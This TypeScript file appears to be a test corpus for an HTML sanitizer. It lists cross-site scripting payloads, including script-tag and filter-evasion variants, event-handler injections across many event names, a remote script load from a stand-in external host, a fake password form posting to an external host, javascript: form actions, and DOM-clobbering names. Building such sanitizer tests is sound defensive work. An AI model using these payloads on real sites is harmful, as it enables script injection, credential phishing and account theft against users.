/** Elements and attributes that run code, or take the place of something. */
import { E, ELSEWHERE, entities, j, T } from "./tripwire.ts";

export const scripts = [
  `<script>${T}</script>`,
  `<SCRIPT>${T}</SCRIPT>`,
  `<scr<script>ipt>${T}</scr</script>ipt>`,
  `<script src=${E}/x.js></script>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script\x20type="text/javascript">${T}</script>`,
  `<script\x0c>${T}</script>`,
  `<script/x>${T}</script/x>`,
  `<script>${T}//`,
  `<<script>${T};//<</script>`,
  `</p><script>${T}</script><p>`,
  `</textarea><script>${T}</script>`,
  `</title><script>${T}</script>`,
  `</style><script>${T}</script>`,
  `<script type=module>${T}</script>`,
  `<script>document.write('<img src=x onerror=${T}>')</script>`,
  `"><script>${T}</script>`,
  `'><script>${T}</script>`,
  `--><script>${T}</script>`,
  `]]><script>${T}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${T}>"></noscript>`,
  `<script type="importmap">{"imports":{"x":"${E}/x.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${E}/"]}]}</script>`,
];

const HANDLERS = (
  "onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut " +
  "onbeforeinput onbeforematch onbeforepaste onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay " +
  "oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag " +
  "ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onend onended onerror onfinish onfocus " +
  "onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown " +
  "onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown " +
  "onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste " +
  "onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout " +
  "onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll " +
  "onscrollend onsearch onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstart onstorage " +
  "onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel " +
  "ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting " +
  "onwebkitanimationend onwebkittransitionend onwheel"
).split(" ");

export const handlers = [
  ...HANDLERS.flatMap((name) => [
    `<p ${name}="${T}" tabindex=1 contenteditable autofocus>a</p>`,
    `<span class="user-mention" data-user-id="1" ${name}="${T}">a</span>`,
    `<a href="#x" ${name.toUpperCase()}='${T}'>a</a>`,
  ]),
  `<img src=x onerror=${T}>`,
  `<img src=x:x onerror\n=\n"${T}">`,
  `<img/src=x/onerror=${T}>`,
  `<img src='x'onerror=${T}>`,
  `<img src=x onerror\x09=${T}>`,
  `<img src=x onerror\x0c=${T}>`,
  `<img src=/user_uploads/none.png onerror="${T}">`,
  `<img src="/user_uploads/1.png" onload=${T}>`,
  `<img \x00src=x onerror=${T}>`,
  `<img src=x one\x00rror=${T}>`,
  `<img """><img src=x onerror="${T}">">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=${T}>`,
  `<img src=x onerror="${entities(T)}">`,
  `<video src=x onerror=${T}></video>`,
  `<video><source onerror="${T}"></video>`,
  `<audio src=x onerror=${T}></audio>`,
  `<audio autoplay src=/user_uploads/x.mp3 oncanplay=${T}></audio>`,
  `<body onload=${T}>`,
  `<body onpageshow=${T}>`,
  `<frameset onload=${T}>`,
  `<iframe onload=${T}></iframe>`,
  `<details open ontoggle=${T}>a</details>`,
  `<details open><summary onclick=${T}>a</summary></details>`,
  `<input autofocus onfocus=${T}>`,
  `<select autofocus onfocus=${T}></select>`,
  `<textarea autofocus onfocus=${T}></textarea>`,
  `<button autofocus onfocus=${T}>a</button>`,
  `<keygen autofocus onfocus=${T}>`,
  `<marquee onstart=${T}>a</marquee>`,
  `<marquee loop=1 width=0 onfinish=${T}>a</marquee>`,
  `<object onerror=${T} data=x></object>`,
  `<embed src=x onerror=${T}>`,
  `<link rel=stylesheet href=x onerror=${T}>`,
  `<style onload=${T}></style>`,
  `<dialog open onclose=${T}>a</dialog>`,
  `<div popover id=pop onbeforetoggle=${T}>a</div><button popovertarget=pop autofocus>b</button>`,
  `<x onclick=${T} tabindex=1>a</x>`,
  `<custom-element onfocus=${T} tabindex=0 autofocus>a</custom-element>`,
  `<a onmouseover=${T}>a</a>`,
  `<a href="#" style="position:fixed;inset:0" onmouseover=${T}>a</a>`,
];

export const forms = [
  `<form action=${E}><input name=password type=password autofocus><button>Sign in</button></form>`,
  `<form><button formaction="${j}">a</button></form>`,
  `<input type=submit formaction="${j}">`,
  `<button type=submit form=x formaction=${E}>a</button>`,
  `<input type=hidden name=csrfmiddlewaretoken value=x>`,
  `<isindex prompt=x>`,
  `<select><option>a</option></select>`,
  `<textarea>${T}</textarea>`,
  `<label for=x>a</label><fieldset form=y><legend>b</legend></fieldset>`,
  `<p contenteditable onpaste=${T}>a</p>`,
  `<div role=dialog aria-modal=true aria-label="Sign in">a</div>`,
  `<span role=button tabindex=0 onclick=${T}>a</span>`,
];

export const clobbering = [
  `<form name=cookie><input name=body></form>`,
  `<a id=location href="${j}">a</a>`,
  `<a id=document name=document>a</a>`,
  `<img name=getElementById src=/user_uploads/1.png>`,
  `<img name=currentScript src=/user_uploads/1.png><form name=body><input name=attributes><input name=childNodes></form>`,
  `<form id=app><input id=childNodes name=childNodes><input name=nodeName><input name=removeChild></form>`,
  `<a id=x><a id=x name=y href="${j}">a</a></a>`,
  `<iframe name=trustedTypes srcdoc=x></iframe>`,
  `<object name=parley id=parley></object>`,
  `<embed name=navigator>`,
  `<p id=app name=root class="markup">a</p>`,
  `<img id=i-copy name=i-copy src=/user_uploads/1.png>`,
  `<svg id=i-copy><path id=i-check d="M0 0"/></svg>`,
  `<span class="katex"><svg id=i-copy><path id=i-check d="M0 0"/></svg></span>`,
  `<button form=x formaction="${j}" name=y>a</button>`,
  `<output form=x name=z>a</output>`,
  `<map name=m><area href="${j}" shape=default></map>`,
  `<slot name=x>a</slot><p slot=x part=y is=z itemid=${E} itemprop=x accesskey=x tabindex=1 contenteditable draggable=true>a</p>`,
  `<span class="user-mention" data-user-id="__proto__" data-user-group-id="constructor">a</span>`,
  `<a class="stream" data-stream-id="__proto__" href="#x">a</a>`,
  `<div class="__proto__ constructor hasOwnProperty">a</div>`,
  `<constructor><__proto__>a</__proto__></constructor><toString>b</toString>`,
];
